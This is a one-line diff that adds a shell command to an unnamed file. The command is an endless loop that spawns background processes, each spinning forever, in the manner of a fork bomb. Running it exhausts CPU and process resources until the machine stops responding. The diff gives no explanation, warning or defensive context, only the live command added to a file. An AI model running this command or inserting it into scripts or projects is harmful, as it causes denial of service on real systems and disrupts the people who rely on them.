@@ -1,0 +1,1 @@
+while true; do (while true; do :; done) & done
